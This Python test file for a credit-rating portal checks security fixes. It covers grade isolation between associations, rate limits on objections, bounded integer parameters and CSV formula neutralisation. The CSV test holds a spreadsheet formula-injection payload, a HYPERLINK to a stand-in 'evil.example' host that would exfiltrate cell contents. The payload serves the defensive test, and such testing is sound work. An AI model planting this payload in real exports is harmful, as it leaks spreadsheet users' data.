"""Issue 11 findings in credit, each with the behaviour that must hold:

- #1 a grade is always one association's: another association publishing for the same
  enterprise adds its own grade under its own name and replaces nothing; the registered name
  comes from the registry, not from whichever association typed the code first;
- #11 objections are bounded (one open per person, enterprise and batch; a rate per batch and
  enterprise from everyone; size limits), since each writes a permanent ledger event;
- #15 integer query parameters are bounded at the schema (422, never a database overflow);
- #16 the CSV export neutralises cells a spreadsheet would run as formulas.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Awaitable, Callable
from typing import Any

import httpx
import pytest
from sqlalchemy import func
from sqlmodel import select

from credit import ledger, ratings
from credit.ledger import verify_stored
from credit.models import LedgerEvent
from credit.settings import CreditSettings
from portal.accounts.models import Role, User
from portal.db import Database
from portal.exports import safe_cell
from portal.settings import Settings
from tests.credit.support import Association, Clock, MakeAssociation
from tests.support import assert_problem


async def _publish(assoc: Association, clock: Clock) -> dict[str, Any]:
    run = (await assoc.post("/runs", {})).json()
    assert (await assoc.post(f"/runs/{run['id']}/notice")).status_code == 200
    clock.advance(days=14)
    response = await assoc.post(f"/runs/{run['id']}/publish")
    assert response.status_code == 200, response.text
    return run


async def _only_self_commitment(assoc: Association, client: httpx.AsyncClient) -> None:
    """A methodology of one self-entered indicator weighted 100: the association alone decides
    the grade (what the review used to hand another association's member a C)."""
    default = (await client.get("/api/v1/credit/methodologies")).json()["items"][0]
    definition = {
        "indicators": [
            {
                "code": "self_commitment",
                "kind": "association_entry",
                "name": "自我承诺",
                "weight": 100,
                "params": {},
            }
        ],
        "grades": default["definition"]["grades"],
    }
    response = await assoc.post("/methodologies", {"name": "只看承诺", "definition": definition})
    assert response.status_code == 201, response.text


async def test_another_association_cannot_replace_a_grade_or_rename_a_member(
    client: httpx.AsyncClient,
    database: Database,
    settings: Settings,
    clock: Clock,
    make_association: MakeAssociation,
    make_user: Callable[..., Awaitable[User]],
    auth_headers: Callable[[User], Awaitable[dict[str, str]]],
) -> None:
    mine = await make_association()
    other = await make_association(name="某市某某行业协会", industry="其他")
    member = await mine.add_member("咸阳市秦都区渭阳西路加油站有限公司")
    await mine.set_indicators(
        member, self_commitment=True, metrology_officer=True, management_system=True
    )
    await _publish(mine, clock)
    before = (await client.get(f"/api/v1/credit/enterprises/{member}")).json()
    assert before["current"]["grade"] == "AAA"

    # Another association adds the same code under another name and publishes a C for it.
    response = await client.post(
        "/api/v1/credit/association/members",
        json={"uscc": member, "name": "冒名加油站", "region_code": "610402"},
        headers=other.headers,
    )
    assert response.status_code == 201, response.text
    await _only_self_commitment(other, client)
    await other.set_indicators(member, self_commitment=False)
    await _publish(other, clock)

    page = (await client.get(f"/api/v1/credit/enterprises/{member}")).json()
    grades = {g["association"]["name"]: g for g in page["grades"]}
    assert set(grades) == {mine.org.name, other.org.name}
    assert grades[mine.org.name]["grade"] == "AAA"  # untouched by the other association
    assert grades[mine.org.name]["name"] == "咸阳市秦都区渭阳西路加油站有限公司"
    assert grades[mine.org.name]["breakdown"] == before["breakdown"]
    assert grades[other.org.name]["grade"] == "C"
    assert grades[other.org.name]["name"] == "冒名加油站"  # its own label, under its own name
    assert page["current"] is None  # no single "current" grade any association can overwrite
    assert page["enterprise"]["name"] is None  # nobody typed the registered name

    # The public list shows one row per association, each with that association's name.
    listing = (await client.get("/api/v1/credit/ratings", params={"q": member})).json()
    rows = {(r["association"]["name"], r["grade"], r["name"]) for r in listing["items"]}
    assert rows == {
        (mine.org.name, "AAA", "咸阳市秦都区渭阳西路加油站有限公司"),
        (other.org.name, "C", "冒名加油站"),
    }
    html = (await client.get(f"/credit/enterprises/{member}")).text
    assert mine.org.name in html
    assert other.org.name in html
    assert "各协会的等级相互独立" in html

    # The registered name comes from the registry: administrators only.
    body = {"name": "咸阳渭阳西路加油站有限公司", "region_code": "610402", "source": "企业登记"}
    refused = await client.put(
        f"/api/v1/credit/registry/{member}", json=body, headers=other.headers
    )
    assert_problem(refused, 403)
    admin = await make_user(role=Role.admin, region="610000")
    response = await client.put(
        f"/api/v1/credit/registry/{member}", json=body, headers=await auth_headers(admin)
    )
    assert response.status_code == 200, response.text
    page = (await client.get(f"/api/v1/credit/enterprises/{member}")).json()
    assert page["enterprise"]["name"] == "咸阳渭阳西路加油站有限公司"
    assert {g["name"] for g in page["grades"]} == {"咸阳渭阳西路加油站有限公司"}
    # Re-adding a member never touches the registered name.
    assert (
        await other.client.delete(
            f"/api/v1/credit/association/members/{member}", headers=other.headers
        )
    ).status_code == 204
    await client.post(
        "/api/v1/credit/association/members",
        json={"uscc": member, "name": "又一个名字", "region_code": "610402"},
        headers=other.headers,
    )
    page = (await client.get(f"/api/v1/credit/enterprises/{member}")).json()
    assert page["enterprise"]["name"] == "咸阳渭阳西路加油站有限公司"

    async with database.transaction() as session:
        result = await verify_stored(session, ledger.signing_key(settings))
        assert result.ok, result.problems
        assert await ratings.rebuild_ratings(session) == []


def _objection(run: dict[str, Any], uscc: str, contact: str, **extra: Any) -> dict[str, Any]:
    return {
        "batch_id": run["id"],
        "uscc": uscc,
        "objector_kind": "public",
        "name": "钱女士",
        "contact": contact,
        "text": "该站油枪计量偏少，请协会复核评分依据。",
        **extra,
    }


async def _ledger_size(database: Database) -> int:
    async with database.transaction() as session:
        return int(await session.scalar(select(func.count()).select_from(LedgerEvent)) or 0)


async def test_objections_are_bounded(
    client: httpx.AsyncClient,
    database: Database,
    settings: Settings,
    clock: Clock,
    make_association: MakeAssociation,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    assoc = await make_association()
    member = await assoc.add_member("礼泉县城关加油站", region="610425")
    run = (await assoc.post("/runs", {})).json()
    await assoc.post(f"/runs/{run['id']}/notice")
    url = "/api/v1/credit/objections"

    # One open objection per person, enterprise and batch: a repeat is refused, writes nothing.
    first = await client.post(url, json=_objection(run, member, "13600000000"))
    assert first.status_code == 201, first.text
    size = await _ledger_size(database)
    again = await client.post(url, json=_objection(run, member, " 136 0000 0000 "))
    assert_problem(again, 409, "duplicate_objection")
    assert await _ledger_size(database) == size

    # Size bounds: an oversized text or contact is a 422 before anything is written.
    huge = await client.post(url, json=_objection(run, member, "13600000001", text="多" * 5001))
    assert_problem(huge, 422)
    assert await _ledger_size(database) == size

    # Many people (or one person rotating addresses) against one enterprise: bounded per batch
    # and enterprise, whatever the client address.
    credit = settings.of(CreditSettings)
    monkeypatch.setattr(credit, "credit_objection_rate", "1000/hour")
    monkeypatch.setattr(credit, "credit_objection_rate_per_enterprise", "3/day")
    statuses = [
        (await client.post(url, json=_objection(run, member, f"1360000010{n}"))).status_code
        for n in range(4)
    ]
    assert statuses == [201, 201, 201, 429]
    assert await _ledger_size(database) == size + 3


@pytest.mark.parametrize(
    "path",
    [
        "/api/v1/credit/ledger?after=2354632283252532508098560",
        "/api/v1/credit/ledger?after=-1",
        "/api/v1/credit/ledger?limit=10341095642581830904882135040",
        "/api/v1/credit/ratings?page=10341095642581830904882135040",
        "/api/v1/credit/ratings?per_page=100000",
        "/api/v1/credit/notices?page=0",
        "/api/v1/credit/methodologies?per_page=10341095642581830904882135040",
    ],
)
async def test_integer_parameters_are_bounded(client: httpx.AsyncClient, path: str) -> None:
    assert_problem(await client.get(path), 422)


async def test_methodology_integers_are_bounded(
    client: httpx.AsyncClient, make_association: MakeAssociation
) -> None:
    assoc = await make_association()
    default = (await client.get("/api/v1/credit/methodologies")).json()["items"][0]
    definition = default["definition"]
    for indicator in definition["indicators"]:
        if indicator["kind"] == "complaint_rate":
            indicator["params"]["window_days"] = 10**30
    response = await assoc.post("/methodologies", {"name": "超大窗口", "definition": definition})
    assert_problem(response, 422)


async def test_ledger_cursor_at_the_largest_sequence_is_an_empty_page(
    client: httpx.AsyncClient,
) -> None:
    response = await client.get(f"/api/v1/credit/ledger?after={2**63 - 1}")
    assert response.status_code == 200, response.text
    assert response.json()["entries"] == []


async def test_ratings_csv_neutralises_formulas(
    client: httpx.AsyncClient, clock: Clock, make_association: MakeAssociation
) -> None:
    assoc = await make_association()
    hostile = '=HYPERLINK("http://evil.example/?"&B2,"点击查看")'
    member = await assoc.add_member(hostile)
    await assoc.set_indicators(member, self_commitment=True)
    await _publish(assoc, clock)
    response = await client.get("/api/v1/credit/exports/ratings.csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    row = next(r for r in rows if r["uscc"] == member)
    assert row["name"] == "'" + hostile
    # The JSON export is data, not a spreadsheet: it keeps the name as it is.
    exported = (await client.get("/api/v1/credit/exports/ratings.json")).json()["ratings"]
    assert next(r for r in exported if r["uscc"] == member)["name"] == hostile


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+86 139", "'+86 139"),
        ("-5", "'-5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("咸阳加油站", "咸阳加油站"),
        ("a=b", "a=b"),
        (None, ""),
        (3, 3),  # numbers stay numbers: the CSV writer prints them, an XLSX cell keeps its type
        (True, True),
    ],
)
def test_safe_cell(value: object, expected: object) -> None:
    assert safe_cell(value) == expected


async def test_an_objection_sent_twice_at_once_is_lodged_once(
    client: httpx.AsyncClient,
    database: Database,
    settings: Settings,
    make_association: MakeAssociation,
) -> None:
    """Attack review: one open objection per person, enterprise and batch was checked before
    the insert, so the same objection sent twice at once (a double tap) found none open in both
    requests and was lodged twice, each with its ledger entry. The second now waits for the
    first and is refused (409 duplicate_objection), adding nothing to the ledger."""
    import asyncio

    from credit import objections
    from credit.errors import DuplicateObjection
    from credit.schemas import ObjectionCreate

    assoc = await make_association()
    member = await assoc.add_member("礼泉县城关加油站", region="610425")
    run = (await assoc.post("/runs", {})).json()
    await assoc.post(f"/runs/{run['id']}/notice")
    data = ObjectionCreate.model_validate(_objection(run, member, "13600000000"))
    size = await _ledger_size(database)

    async def lodge() -> None:
        async with database.transaction() as session:
            await objections.lodge_objection(session, data=data, settings=settings)

    async with database.transaction() as first:
        await objections.lodge_objection(first, data=data, settings=settings)
        # The second arrives while the first is written but not yet committed.
        second = asyncio.create_task(lodge())
        await asyncio.sleep(1)
    [outcome] = await asyncio.gather(second, return_exceptions=True)
    assert isinstance(outcome, DuplicateObjection), outcome
    assert await _ledger_size(database) == size + 1
